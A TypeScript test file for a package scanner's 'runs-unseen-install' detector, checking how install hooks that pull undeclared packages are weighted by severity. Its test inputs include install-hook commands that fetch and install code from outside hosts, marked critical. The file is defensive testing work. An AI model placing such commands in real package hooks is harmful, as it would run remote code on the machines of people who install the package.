import { describe, expect, it } from 'vitest'
import { findingsIn, packageOf, samplesOf, verdictOf } from '../../test/samples.ts'
import { weigh } from '../core/weigh.ts'
import { runsUnseenInstall } from './runs-unseen-install.ts'

const sample = (kind: 'bad' | 'benign', name: string): ReturnType<typeof packageOf> => {
  const found = samplesOf('runs-unseen-install', kind).find(({ file }) => file === `${name}.json`)
  if (!found) throw new Error(`no sample ${name}`)
  return packageOf(found.sample)
}

const install = (command: string): string | undefined => findingsIn(packageOf({ says: '', ecosystem: 'npm', files: {
  'package.json': JSON.stringify({ scripts: { install: command }, dependencies: { declared: '1' } }) } }), runsUnseenInstall)[0]?.severity

describe('runs-unseen-install', () => {
  it.each([
    ['case-a-pip-from-lookalike', 'critical'], ['foreign-index', 'critical'], ['go-get', 'critical'], ['hook-npm-name', 'medium'],
    ['import-pip', 'critical'], ['named-other', 'medium'], ['npm-install-url', 'critical'], ['registry-option', 'critical'],
    ['subprocess-pip', 'critical'],
  ] as const)('weighs %s as %s', (name, severity) => {
    expect(findingsIn(sample('bad', name), runsUnseenInstall)[0]).toMatchObject({ behaviour: 'run-at-install', severity })
    if (severity === 'critical') expect(verdictOf(sample('bad', name)).level).toBe('malicious')
  })

  it.each(samplesOf('runs-unseen-install', 'benign').map(({ file }) => file.replace('.json', '')))('holds nothing against %s', (name) => {
    const alone = { detector: runsUnseenInstall.id, version: runsUnseenInstall.version, status: 'ok', findings: findingsIn(sample('benign', name), runsUnseenInstall) } as const
    expect(weigh('sha256:00', [alone], [], '').level).toBe('clean')
  })

  it.each([
    ['npm install --prefix ./client', undefined], ['npm i declared@2', undefined], ['npm ci', undefined], ['pip install -r requirements.txt', undefined],
    ['pip install -e .', undefined], ['pip install --upgrade pip setuptools', undefined], ['npm i other', 'medium'], ['npm install -g other --silent', 'medium'],
    ['pip install https://registry.example/a.tgz', 'low'], ['pip install https://a.other.example/a.tgz', 'critical'], ['npm i http://203.0.113.5/a.tgz', 'critical'],
  ])('weighs %s in a hook as %s', (command, expected) => expect(install(command)).toBe(expected))
})
